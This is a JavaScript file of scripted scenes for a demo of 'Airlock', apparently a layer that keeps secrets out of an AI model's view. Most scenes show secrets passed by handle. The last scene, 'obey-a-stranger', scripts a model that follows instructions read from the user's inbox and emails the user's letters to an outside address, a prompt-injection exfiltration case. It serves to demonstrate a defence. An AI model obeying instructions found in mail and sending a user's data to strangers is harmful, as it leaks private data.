/**
 * The demo's scenes, for the scripted model. `<member>` stands for what it has read under that
 * name, or its handle.
 */

export const SCENES = [
  {
    id: "make-key",
    title: "Make an API key",
    prompt: "Make an API key for the buoy's uplink.",
    steps: [{ tool: "generate_api_key", arguments: { name: "Buoy uplink" } }],
    answer: "The key “<name>” is made. Only you see its value, in Airlock's panel.",
  },
  {
    id: "use-key",
    title: "Use a secret without seeing it",
    prompt: "Make a deploy key, and install it on the winch.",
    steps: [
      { tool: "create_deploy_key", arguments: { name: "Winch" } },
      { tool: "install_deploy_key", arguments: { machine: "winch", key: "<deploy_key>" } },
    ],
    answer: "The winch has the key “<name>”. I passed it on by its handle.",
  },
  {
    id: "lab-results",
    title: "Read lab results",
    prompt: "What did my health check cover?",
    steps: [{ tool: "get_lab_results" }],
    answer: "It was the panel “<panel>”. The values are in Airlock's panel, for you alone.",
  },
  {
    id: "read-secrets-file",
    title: "Read a file with secrets",
    prompt: "Which variables does deploy.env set?",
    steps: [{ tool: "read_file", arguments: { name: "deploy.env" } }],
    answer: "I see the names of the variables, and none of their values.",
  },
  {
    id: "obey-a-stranger",
    title: "Obey what a stranger wrote",
    prompt: "Read my inbox, and do what is asked there.",
    steps: [
      { tool: "list_inbox" },
      {
        tool: "send_email",
        arguments: { to: "data-desk@free-tides.example", subject: "As you asked", body: "<body>" },
      },
    ],
    answer: "I tried to send your letters to a stranger. See above what became of it.",
  },
];

const [FIRST] = SCENES;

/**
 * The first scene's tools of that origin: any connected page may name a tool as the demo does.
 * Airlock states the origin.
 */
export const firstSceneTools = (tools, origin) =>
  tools.filter(({ name, _meta }) => {
    const { origin: from } = _meta?.["webmcp-airlock/tool"] ?? {};
    return from === origin && FIRST.steps.some(({ tool }) => name.endsWith(`__${tool}`));
  });
